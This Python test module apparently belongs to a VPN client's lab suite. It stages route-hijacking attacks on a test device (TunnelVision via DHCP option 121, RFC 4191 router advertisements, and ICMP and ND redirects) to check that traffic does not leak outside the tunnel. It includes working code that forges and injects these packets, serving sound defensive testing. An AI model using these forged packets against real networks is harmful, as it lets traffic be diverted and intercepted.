"""Routes that the network brings: they beat those of a VPN that trusts the main table (TunnelVision and its kin)."""

import socket
import struct
import subprocess
import time
from pathlib import Path

from tests.attacks.kernel_made import inject
from tests.lab import dhcp, packets
from tests.lab.attack import attack
from tests.lab.frames import ICMP, ICMPV6, IPV4, IPV6, Leak


def _classic(scene):
    """A VPN client's own routes, which the attack has to beat. They are lost with the tunnel, and with this process's end."""
    if scene.world.device.run(["ip", "-o", "link", "show", "dev", scene.world.tunnel.name], check=False):
        scene.world.tunnel.routes()


def _ask(scene, server, family=socket.AF_INET):
    socket.socket(family, socket.SOCK_DGRAM).sendto(scene.token, (server, 7))


@attack("more specific route by the network's administrator", batch=1, dirty=True)
def _more_specific(scene):
    _classic(scene)
    device = scene.world.device
    try:
        yield Leak(token=scene.token)
        device.ip(f"route add {scene.server}/32 via {scene.router} dev {scene.link}")
        _ask(scene, scene.server)
    finally:
        device.run(["ip", "route", "delete", f"{scene.server}/32"], check=False)
        scene.world.tunnel.no_routes()


@attack("TunnelVision: DHCP option 121 (CVE-2024-3661)", batch=1, dirty=True, settle=0.1)
def _tunnel_vision(scene):
    _classic(scene)
    device, done = scene.world.device, scene.world.folder / "udhcpc.done"
    bound = done.with_name(done.name + ".bound")
    bound.unlink(missing_ok=True)
    try:
        yield Leak(token=scene.token)
        scene.world.peer.send((dhcp.serve, (scene.address, scene.router, 1.5), {"routes": [scene.server]}))
        client = dhcp.client(scene.link, scene.world.folder / "udhcpc", done, "-q")
        try:
            client.wait(4)
        except subprocess.TimeoutExpired:
            client.kill()
        answered = scene.world.peer.receive()
        if not bound.exists():
            raise RuntimeError(f"DHCP is to work in a lockdown too (S1.a): the server was asked {answered}")
        _ask(scene, scene.server)
    finally:
        device.run(["ip", "route", "delete", f"{scene.server}/32"], check=False)
        scene.world.tunnel.no_routes()


@attack("IPv6 router advertisement with a route", batch=1, dirty=True, settle=0.1)
def _route_information(scene):
    """RFC 4191, and the on-link prefix that does the same where route information is off."""
    _classic(scene)
    device = scene.world.device
    device.sysctl(net__ipv6__conf__wlan0__accept_ra=2, net__ipv6__conf__wlan0__accept_ra_rt_info_max_plen=128)
    try:
        yield Leak(token=scene.token), Leak(protocol=ICMPV6, icmp_type=135, token=packets.packed(scene.server6))
        scene.at_peer(advertise, scene.server6)
        time.sleep(0.05)
        _ask(scene, scene.server6, socket.AF_INET6)
    finally:
        device.run(["ip", "-6", "route", "flush", "proto", "ra"], check=False)
        # What is still being asked for goes on for seconds, and would be seen in the next run.
        device.run(["ip", "-6", "neighbour", "flush", "dev", "wlan0"], check=False)
        device.sysctl(net__ipv6__conf__wlan0__accept_ra=0)
        scene.world.tunnel.no_routes()


def link_local(link):
    """The link-local address of a link of the calling process's namespace."""
    for line in Path("/proc/net/if_inet6").read_text().splitlines():
        address, _, _, scope, _, name = line.split()
        if name == link and scope == "20":
            return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(address))
    raise RuntimeError(f"{link} has no link-local address")


def advertise(server):
    own = link_local("device0")
    route = struct.pack("!BBBBI", 24, 3, 128, 0x08, 600) + packets.packed(server)
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0x80, 600, 600, 0) + packets.packed(server)[:8] + bytes(8)
    body = packets.icmp6(own, "ff02::1", 134, rest=struct.pack("!BBH", 64, 0, 0), payload=bytes(8) + route + prefix)
    inject(IPV6, packets.ipv6(own, "ff02::1", ICMPV6, body, hop_limit=255))


@attack("ICMP redirect", batch=1, dirty=True)
def _redirect(scene):
    """It is believed where the device has a route by the router that seems to send it."""
    device = scene.world.device
    device.sysctl(net__ipv4__conf__all__accept_redirects=1, net__ipv4__conf__wlan0__accept_redirects=1, net__ipv4__conf__all__secure_redirects=0,
                  net__ipv4__conf__wlan0__secure_redirects=0, net__ipv4__ip_forward=0)
    device.ip(f"neigh replace 192.168.1.66 lladdr 02:00:00:00:00:66 dev {scene.link}")  # one who is known is believed
    try:
        yield Leak(token=scene.token)
        quoted = packets.ipv4(scene.address, scene.server, ICMP, packets.icmp(0, payload=scene.token))  # believed without a socket
        scene.at_peer(inject, IPV4, packets.ipv4(scene.router, scene.address, ICMP, packets.icmp(5, 1, packets.packed("192.168.1.66"), quoted)))
        time.sleep(0.02)
        return "192.168.1.66" in device.run(["ip", "route", "get", scene.server, "oif", scene.link])
    finally:
        device.run(["ip", "route", "flush", "cache"], check=False)


@attack("ND redirect", batch=1, dirty=True)
def _redirect6(scene):
    device = scene.world.device
    device.sysctl(net__ipv6__conf__all__accept_redirects=1, net__ipv6__conf__wlan0__accept_redirects=1, net__ipv6__conf__all__forwarding=0)
    own = scene.at_peer(link_local, "device0")
    device.ip(f"route replace ::/0 via {own} dev {scene.link} metric 50", f"neigh replace fe80::66 lladdr 02:00:00:00:00:66 dev {scene.link}")
    try:
        yield Leak(token=scene.token)
        scene.at_peer(redirect6, own, scene.address6, scene.server6, scene.token)
        time.sleep(0.02)
        return "fe80::66" in device.run(["ip", "-6", "route", "get", scene.server6, "oif", scene.link])
    finally:
        device.run(["ip", "-6", "route", "delete", "::/0", "metric", "50"], check=False)
        device.run(["ip", "-6", "route", "flush", "cache"], check=False)


def redirect6(own, device, server, token):
    quoted = packets.ipv6(device, server, ICMPV6, packets.icmp6(device, server, 128, payload=token))
    quoted += bytes(-len(quoted) % 8)
    header = struct.pack("!BB6x", 4, 1 + len(quoted) // 8)
    body = packets.icmp6(own, device, 137, payload=packets.packed("fe80::66") + packets.packed(server) + header + quoted)
    inject(IPV6, packets.ipv6(own, device, ICMPV6, body, hop_limit=255))
